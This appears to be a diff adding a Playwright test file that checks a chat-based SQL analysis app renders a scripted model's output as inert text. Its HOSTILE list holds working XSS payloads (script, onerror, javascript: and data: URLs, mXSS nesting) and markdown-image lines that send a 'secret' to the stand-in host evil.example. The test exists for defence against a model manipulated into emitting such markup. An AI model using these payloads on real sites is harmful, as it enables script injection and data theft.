@@ -1,0 +1,72 @@
+"""A model that was talked into mischief: nothing it says runs, loads or leads astray.
+
+That no request left the origin and no policy was broken is asserted after every test, by the context.
+"""
+
+from playwright.sync_api import Locator, Page, expect
+
+from tests.e2e.page.browser import ask
+from tests.e2e.test_turn import sql
+from tests.support.scripted_model import ScriptedModel
+
+HOSTILE = [
+    "<script>window.hacked = 1</script>",
+    "<img src=x onerror='window.hacked = 1'>",
+    "<svg onload='window.hacked = 1'><animate onbegin='window.hacked = 1'></svg>",
+    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
+    "<style>body { display: none }</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<form action=https://evil.example><input name=q autofocus onfocus='window.hacked = 1'></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "![secret](https://evil.example/?q=secret)",
+    "![secret][ref]\n\n[ref]: https://evil.example/?q=secret",
+    "[![x](https://evil.example/p.png)](https://evil.example)",
+    "[click](javascript:window.hacked=1)",
+    "[click](JaVaScRiPt&colon;window.hacked=1)",
+    "[click](data:text/html,<script>parent.hacked=1</script>)",
+    "[click](//evil.example)",
+    "<a href='vbscript:x' onclick='window.hacked = 1'>x</a>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
+    "```html\n</code></pre><img src=x onerror='window.hacked = 1'>\n```",
+    "| a |\n|---|\n| <img src=x onerror='window.hacked = 1'> |",
+]
+
+
+FORBIDDEN = "script, img, svg, iframe, style, link, form, input, meta, base, math, object, embed, [style]"
+
+
+def test_nothing_a_model_says_does_anything(page: Page, model: ScriptedModel, session: str) -> None:
+    page.goto(f"/sessions/{session}")
+    for number, said in enumerate(HOSTILE, start=1):
+        model.say(sql("SELECT 1 AS n"), f"before\n\n{said}\n\nafter")
+        ask(page, f"Number {number}")
+        expect(page.locator(".answer-actions")).to_have_count(number)
+        analysis = page.locator(".analysis").last
+        assert_harmless(analysis, said)
+    assert page.evaluate("window.hacked") is None
+
+
+def assert_harmless(analysis: Locator, said: str) -> None:
+    assert {"before", "after"} <= set(analysis.inner_text().split()), said
+    assert analysis.locator(FORBIDDEN).count() == 0, said
+    for link in analysis.locator("a[href]").all():
+        assert (link.get_attribute("href") or "").startswith("https://"), said
+        assert "noopener" in (link.get_attribute("rel") or "")
+
+
+def test_markup_in_questions_explanations_cells_and_column_names_is_text(
+    page: Page, model: ScriptedModel, session: str
+) -> None:
+    image = "<img src=x onerror='window.hacked = 1'>"
+    quoted = image.replace("'", "''")
+    statement = f"SELECT '{quoted}' AS \"{image}\", 1 AS n UNION ALL SELECT 'b', 2"
+    model.say(sql(statement, f"Understood {image}."), "Fine.")
+    page.goto(f"/sessions/{session}")
+    ask(page, f"What about {image}?")
+    expect(page.locator(".answer-actions")).to_be_visible()
+    for tab in ("Table", "SQL"):
+        page.get_by_role("tab", name=tab).click()
+        expect(page.get_by_role("tabpanel")).to_contain_text("onerror")
+    assert page.evaluate("window.hacked") is None
+    expect(page.locator("main img")).to_have_count(0)
